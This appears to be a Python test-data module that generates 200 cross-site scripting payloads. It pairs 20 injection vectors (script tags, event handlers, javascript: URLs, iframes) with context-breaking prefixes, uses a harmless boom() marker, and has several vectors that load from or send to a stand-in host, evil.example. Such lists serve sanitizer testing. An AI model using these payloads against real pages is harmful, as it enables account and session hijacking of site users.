"""Two hundred texts that would act as code in a page which takes text for markup."""

from __future__ import annotations

_ACTS = [
    "<script>boom()</script>", "<img src=x onerror=boom()>", "<svg onload=boom()>",
    "<svg><animate onbegin=boom() attributeName=x>", "<details open ontoggle=boom()>",
    "<input autofocus onfocus=boom()>", "<video><source onerror=boom()>",
    "<body onpageshow=boom()>", "<iframe srcdoc='<script>parent.boom()</script>'>",
    "<iframe src=javascript:parent.boom()>", "<a href=javascript:boom()>x</a>",
    "<style>@import 'javascript:boom()'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<object data=javascript:boom()>",
    "<form action=//evil.example><button>",
    "<math><mtext><script>boom()</script>", "<template><script>boom()</script></template>",
    "<img src=//evil.example/x.png>",
]  # fmt: skip
_ENDS = ["", "'>", '">', "</ol>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>"]

PAYLOADS = [end + act for act in _ACTS for end in _ENDS]
"""Each act, after each way to end what it stands in: `boom()` or a request would show it."""
